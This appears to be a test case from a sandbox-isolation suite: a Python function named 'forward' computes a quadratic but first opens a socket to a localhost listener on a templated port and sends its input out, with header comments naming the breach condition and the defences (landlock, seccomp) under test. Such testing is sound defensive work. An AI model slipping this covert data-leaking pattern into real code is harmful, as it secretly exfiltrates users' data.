# what: Tell a listener the hidden inputs.
# verdict: 0 points
# breach: contact: the listener sees a connection
# defence: landlock seccomp identity capabilities
# via: suite
import socket


def forward(x, w1, w2, b):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.connect(("127.0.0.1", int("@tcp@")))
        connection.sendall(str(x).encode())
    return w1 * x**2 + w2 * x + b
